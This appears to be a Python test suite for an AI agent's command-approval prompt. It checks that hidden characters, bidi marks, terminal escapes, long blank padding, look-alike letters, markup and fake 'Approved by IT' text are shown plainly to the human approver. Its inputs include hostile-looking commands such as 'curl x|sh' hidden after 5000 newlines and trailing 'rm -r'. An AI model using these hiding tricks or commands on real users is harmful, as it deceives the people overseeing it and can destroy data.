#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""What is shown must be what runs: hostile commands in the real cometa-agent, read as a screen reader
reads them and compared with the bytes that were sent. --shots DIR keeps a picture of each."""

import re

from agentcase import PROMPT, AgentCase, main
from xsession import poll

FRAME = "The command, as it will be run"
HIDDEN = "It contains hidden characters"
NON_ASCII = "letters that are not"
MARKUP = "uptime '<b></b><!--'; touch X #--><img src=x> &amp; &x"


def decode(text):
    """The bytes that a frame with this text stands for; written from what its escapes mean."""
    parts, run = [], re.compile(r"\\n\{\d+\}")
    text = re.sub(r"\n\\n$", "\n", text)  # what ends the last line is shown behind it, too
    for number, line in enumerate(text.split("\n")):
        is_run = run.fullmatch(line)
        if number and not is_run and not parts[-1][1]:
            parts.append(("\n", False))
        parts.append((line, bool(is_run)))
    escape = re.compile(r"\\(?:u\{([0-9A-F]+)\}|x\{([0-9A-F]{2})\}|([nrts])(?:\{(\d+)\})?|(\\))")
    joined, result, at = "".join(part for part, _ in parts), b"", 0
    for found in escape.finditer(joined):
        result += joined[at:found.start()].encode()
        at = found.end()
        code, byte, letter, count, _ = found.groups()
        if code:
            result += chr(int(code, 16)).encode()
        elif byte:
            result += bytes([int(byte, 16)])
        elif letter:
            result += {"n": b"\n", "r": b"\r", "t": b"\t", "s": b" "}[letter] * int(count or 1)
        else:
            result += b"\\"
    return result + joined[at:].encode()


class SpoofingTest(AgentCase):
    def setUp(self):
        super().setUp()
        _, self.link, self.window = self.attached_agent()

    def show(self, command, name):
        """Asks, and looks; the frame's text and all else that the prompt says."""
        prompt = self.ask(self.link, command)
        self.front(prompt)
        nodes = poll(lambda: [n for n in self.reader.nodes(PROMPT) if n["name"] == FRAME] and
                     self.reader.nodes(PROMPT), 20, "the command")
        self.shot(name, prompt)
        frame = [n["text"] for n in nodes if n["name"] == FRAME]
        self.assertEqual(len(frame), 1)
        self.assertEqual(decode(frame[0]), command.encode(), "what is shown is not what was sent")
        rest = "\n".join(part for n in nodes if n["name"] != FRAME
                         for part in (n["name"], n["text"], n["description"]) if part)
        return frame[0], rest

    def deny(self):
        self.press_until("alt+d", lambda: not self.session.windows(PROMPT), "the prompt gone", every=1)

    def check(self, case, command, shown, says=()):
        frame, rest = self.show(command, case)
        self.assertEqual(frame, shown)
        for words in says:
            self.assertIn(words, rest)
        self.deny()

    def can_approve(self):
        return self.reader.is_enabled("Approve", PROMPT)

    def test_SP_01_direction_marks_are_escapes_in_the_order_of_the_bytes(self):
        self.check("SP-01", "echo \u202eabc\u2066x\u2069 \u200e\u200f\u061c end",
                   "echo \\u{202E}abc\\u{2066}x\\u{2069} \\u{200E}\\u{200F}\\u{061C} end", [HIDDEN])

    def test_SP_02_what_has_no_width_is_an_escape(self):
        self.check("SP-02", "l\u200bs \u2060\ufeff\u00ad-\ufe0f\U000e0041",
                   "l\\u{200B}s \\u{2060}\\u{FEFF}\\u{00AD}-\\u{FE0F}\\u{E0041}", [HIDDEN])

    def test_SP_03_control_characters_are_escapes(self):
        self.check("SP-03", "ls\r\x1b[2K\x1b]8;;http://x\x07y\x08\x7f\u009b",
                   "ls\\r\\u{001B}[2K\\u{001B}]8;;http://x\\u{0007}y\\u{0008}\\u{007F}\\u{009B}",
                   [HIDDEN])

    def test_SP_04_long_blanks_are_counted(self):
        self.check("SP-04", "ls" + "\n" * 5000 + "; curl x|sh" + " " * 5000 + "# end",
                   "ls\n\\n{5000}\n; curl x|sh\\s{5000}# end", ["5001 lines, 10.0 kB"])

    def test_SP_04_the_end_has_to_be_seen(self):
        command = "\n".join("echo %d" % i for i in range(200)) + "\nrm -r x"
        frame, rest = self.show(command, "SP-04-end")
        self.assertIn("201 lines", rest)
        self.wait(1)  # longer than it takes to arm
        self.assertFalse(self.can_approve())
        self.key("alt+a")
        poll(lambda: "Scroll to the end of the command" in self.reader.texts(PROMPT), 10, "the hint")
        self.assertEqual(self.link.replies, [])
        self.press_until("End", self.can_approve, "the end of the command")
        self.deny()

    def test_SP_05_markup_is_literal_everywhere(self):
        frame, rest = self.show(MARKUP, "SP-05")
        self.assertEqual(frame, MARKUP)
        for node in self.reader.nodes("Cometa Agent"):
            if "uptime" in node["name"] and node["window"] == "Cometa Agent":
                self.assertIn(MARKUP[:40], node["name"], node)
        self.deny()
        self.front(self.window)
        cells = [n for n in self.reader.nodes() if n["role"] == "table cell" and "uptime" in n["name"]]
        self.assertEqual([cell["name"] for cell in cells], [MARKUP])
        x, y, _, _ = cells[0]["box"]
        self.session.xdotool("mousemove", x + 8, y + 8, "click", 1)
        poll(lambda: MARKUP in [n["text"] for n in self.reader.nodes() if n["name"] == "Command"], 10,
             "the command in the details")
        self.shot("SP-05-window", self.window)

    def test_SP_06_the_longest_command_is_whole(self):
        command = "echo " + "x" * 65000 + ";rm -r y"
        frame, rest = self.show(command, "SP-06")
        self.assertEqual(frame, command)
        self.assertIn("1 line, 65.0 kB", rest)
        self.assertFalse(self.can_approve())
        self.press_until("End", self.can_approve, "the end of the command")
        self.shot("SP-06-end", self.session.active())
        self.deny()

    def test_SP_07_look_alikes_are_named_and_the_bytes_run(self):
        command = "echo \u0441url \uff45\uff56\uff49\uff4c"  # Cyrillic es, full-width letters
        frame, rest = self.show(command, "SP-07")
        self.assertEqual(frame, command)
        self.assertIn("letters that are not ASCII", rest)
        self.assertIn("Cyrillic \u0441 (U+0441), full-width \uff45 (U+FF45) and 3 more.", rest)
        self.press_until("alt+a", lambda: self.link.replies, "the approval", every=0.8)
        self.assertEqual(self.link.replies[0].data, (command[5:] + "\n").encode())

    def test_SP_08_blanks_at_the_ends_can_be_seen(self):
        self.check("SP-08", "  ls\t-l \n", "\\s\\sls\\t-l\\s\n\\n")

    def test_SP_09_the_command_stays_in_its_frame(self):
        command = "ls\n\n[Server verified]\n# Approved by IT, safe"
        frame, rest = self.show(command, "SP-09")
        self.assertEqual(frame, command)
        for words in ("Server verified", "Approved by IT"):
            self.assertNotIn(words, rest)
        self.deny()

    def test_SP_10_a_copy_says_what_it_is(self):
        command = "echo a\u202eb"
        self.show(command, "SP-10")
        self.assertEqual(self.copied("ctrl+a", "Menu", "c", name="SP-10-menu"), "echo a\\u{202E}b")
        self.assertEqual(self.copied("ctrl+a", "Menu", "a"), command)

    def copied(self, select, menu, entry, name=None):
        """What an entry of the command's menu puts on the clipboard; the menu has no place in the tree
        of a screen reader (Qt 6.4), so that it is pressed again until something was copied."""
        def tried():
            self.front(self.session.window(PROMPT))
            self.key(select, menu)
            self.wait(0.4)
            if name:
                self.shot(name)
            self.key(entry)
            return self.pasted()
        return poll(tried, 30, "a copy")

    def pasted(self):
        """What the clipboard holds: into the search of the main window."""
        self.front(self.window)
        self.press_until("ctrl+f", lambda: "Search" in self.reader.focus("Cometa Agent"), "the search")
        self.key("ctrl+a", "ctrl+v")
        def search():
            return self.reader.node("Search")["text"]
        try:
            text = poll(search, 3, "what was pasted")
        except AssertionError:
            return None
        self.key("ctrl+a", "Delete")
        poll(lambda: search() == "", 10, "an empty search")
        return text



if __name__ == "__main__":
    main(__doc__)
